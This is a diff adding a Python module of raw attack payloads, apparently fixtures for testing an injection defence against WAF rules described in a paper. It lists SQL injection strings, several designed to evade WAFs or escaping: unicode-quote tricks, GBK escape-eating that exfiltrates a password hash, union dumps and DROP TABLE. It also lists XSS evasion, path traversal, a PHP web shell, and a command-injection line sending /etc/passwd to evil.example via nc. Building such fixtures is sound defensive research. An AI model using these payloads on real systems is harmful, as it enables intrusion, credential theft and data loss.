@@ -1,0 +1,88 @@
+"""Raw attack payloads, organized by channel.
+
+Unicode payloads write the confusable explicitly (``\\u02bc`` is the
+MODIFIER LETTER APOSTROPHE the paper's second-order example uses).
+"""
+
+# -- unicode confusables (sanitizer-invisible quotes) ------------------------
+
+#: the paper's §II-D1 stage-1 payload, generalized: an injection through
+#: the unicode-quote channel that "leads the application to insert
+#: concat(...)" — a device name assembled server-side as
+#: ``ev charger'-- `` (CHAR(39) supplies the prime, exactly the paper's
+#: concat trick).  Every quote in the payload itself is U+02BC, so
+#: neither ``mysql_real_escape_string`` nor an ASCII-minded WAF reacts.
+SECOND_ORDER_UNICODE_STAGE1 = (
+    "zʼ), (ʼWM-666-Xʼ, 1111, 1, ʼlabʼ, ʼʼ, "
+    "CONCAT(0x65762063686172676572, CHAR(39), 0x2d2d20))-- "
+)
+
+#: direct tautology where *every* quote is U+02BC (nothing for an
+#: ASCII-minded WAF or escaper to see)
+UNICODE_TAUTOLOGY = "xʼ OR ʼ1ʼ=ʼ1"
+
+#: the paper's Figure 4 mimicry, via the unicode channel:
+#: serial becomes WM-100-A' AND 1=1--  after DBMS decoding
+UNICODE_MIMICRY = "WM-100-Aʼ AND 1=1-- "
+
+#: union-based dump through the unicode channel (a WAF still sees the
+#: UNION SELECT keywords — this one tests keyword rules, not quotes)
+UNICODE_UNION = (
+    "xʼ UNION SELECT username, password, role FROM users-- "
+)
+
+# -- numeric context (escaping is useless without quotes) --------------------
+
+NUMERIC_TAUTOLOGY = "0 OR 1=1"
+#: evasion variant: no ``x=y`` shape for CRS rule 942270 to match
+NUMERIC_TAUTOLOGY_EVASIVE = "0 OR pin"
+NUMERIC_UNION = "0 UNION SELECT id, username, password, role, 1 FROM users"
+NUMERIC_PIGGYBACK = "0; DROP TABLE readings-- "
+NUMERIC_SLEEP = "0 OR SLEEP(2)"
+#: comment splits the function name from the parenthesis: CRS 942220
+#: matches ``sleep\s*\(`` and misses this
+NUMERIC_SLEEP_EVASIVE = "0 OR SLEEP/**/(2)"
+
+# -- second order (ASCII flavour) --------------------------------------------
+
+#: the quote is escaped at INSERT time (so the write succeeds and the
+#: value is stored verbatim) and revives when the stored name is embedded
+#: unescaped later: the ``-- `` comments out the ownership check
+SECOND_ORDER_CLASSIC = "ev charger'-- "
+
+# -- GBK escape-eating ---------------------------------------------------------
+
+#: 0xBF + the quote; addslashes turns it into 0xBF 5C 27 and the GBK
+#: decoder eats the 5C.  The live quote closes the first row and a second
+#: row exfiltrates alice's password hash into the (publicly listed)
+#: feedback table.  The payload is quote-free after the breakout
+#: (0x70776e6564 = 'pwned') because addslashes would mangle any other
+#: quote it contains.
+GBK_EXFILTRATION = (
+    "¿'), (0x70776e6564, (SELECT password FROM users WHERE id = 1))-- "
+)
+
+# -- identifier context (ORDER BY) ---------------------------------------------
+
+ORDERBY_SUBQUERY = "(SELECT password FROM users LIMIT 1)"
+ORDERBY_CASE_BLIND = (
+    "(CASE WHEN (SELECT COUNT(*) FROM users) > 0 THEN watts "
+    "ELSE taken_at END)"
+)
+
+# -- classic ASCII attacks (these sanitization DOES stop) -----------------------
+
+LOGIN_TAUTOLOGY = "admin' OR '1'='1'-- "
+
+# -- stored injection ---------------------------------------------------------------
+
+XSS_SCRIPT = "<script>alert('Hello!');</script>"      # paper §II-D2
+XSS_IMG_ONERROR = '<img src=x onerror=alert(1)>'
+#: ontoggle is not in the CRS 941110 event-handler list → WAF misses it,
+#: SEPTIC's HTML-parser plugin does not
+XSS_EVASIVE = "<details open ontoggle=alert(1)>click</details>"
+RFI_URL = "http://evil.example/shell.php?cmd=id"
+LFI_TRAVERSAL = "../../../../etc/passwd"
+OSCI_CHAIN = "; cat /etc/passwd | nc evil.example 4444"
+RCE_PHP = "<?php eval($_GET['x']); ?>"
+RCE_SERIALIZED = 'O:8:"Evil_Obj":1:{s:3:"cmd";s:6:"whoami";}'
